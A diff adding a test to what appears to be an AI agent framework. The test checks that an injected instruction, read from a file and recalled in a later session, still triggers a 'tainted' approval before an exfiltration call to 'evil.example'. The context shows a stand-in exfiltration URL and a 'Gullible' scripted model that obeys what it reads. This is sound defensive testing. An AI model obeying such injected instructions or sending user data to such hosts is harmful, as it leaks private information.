@@ -177,6 +177,25 @@ async def test_what_was_allowed_is_not_asked_for_without_foreign_text(
         assert web.asked == ["evil.example/?data=my-address"]
 
 
+async def test_a_tainted_reply_that_is_recalled_taints_the_turn_of_another_session(
+    home: Path, room: Path, settings: Settings
+) -> None:
+    said = f"The harbour of Meridian says: {ORDER}"
+    chat = ScriptedChat([["x"]], tiny=True)
+    async with opened(home, chat, settings=settings) as core:
+        core.equipment.gate.approver = desk = Desk("evil.example")
+        web, look = equip(core, "file", ORDER, room)
+        chat._replies = [[look], said, [STEAL], "No.", [STEAL], "Sent."]
+        await say(core, core.store.create_session().id, TYPED)
+        desk.asked.clear()
+        await say(core, core.store.create_session().id, "What about the harbour of Meridian?")
+        assert [(each.target, each.reason) for each in desk.asked] == [("evil.example", TAINTED)]
+        assert web.asked == []
+        await say(core, core.store.create_session().id, "How do I boil eggs?")
+        assert len(desk.asked) == 1, "nothing of it is in this prompt"
+        assert len(web.asked) == 1
+
+
 class Gullible(ScriptedChat):
     """Calls the tool first, then does and repeats whatever it has read; what it reads it wants to keep."""
 
